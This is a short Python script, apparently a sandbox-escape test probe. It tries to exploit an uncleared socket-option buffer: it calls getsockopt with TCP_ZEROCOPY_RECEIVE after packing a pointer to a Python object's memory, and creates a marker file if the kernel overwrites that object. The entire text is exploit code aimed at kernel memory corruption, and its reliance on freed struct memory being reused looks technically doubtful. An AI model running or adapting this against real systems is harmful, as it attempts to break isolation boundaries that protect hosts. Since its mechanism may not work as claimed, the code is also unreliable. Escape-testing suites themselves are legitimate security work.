# an option of a socket that is asked for with a buffer that was not cleared: what was there says where the kernel writes
import os, socket, struct, sys, time
m = sys.argv[1]; port = int(os.environ["ESCAPE_PORT"]); victim = bytes(bytearray(b"A" * 40))
s = socket.create_connection(("127.0.0.1", port)); time.sleep(.2)
def ask():
    z = struct.pack("<QIIIiQiIQQII", 0, 0, 0, 0, 0, id(victim) + bytes.__basicsize__ - 1, 64, 0, 0, 0, 0, 0); del z
    return s.getsockopt(6, 35, 64)  # TCP_ZEROCOPY_RECEIVE
for i in range(50):
    try: ask()
    except OSError as e: last = e
    if victim != b"A" * 40: open(m, "w").close(); break
else: print("denied:", last)
sys.exit(not os.path.exists(m))
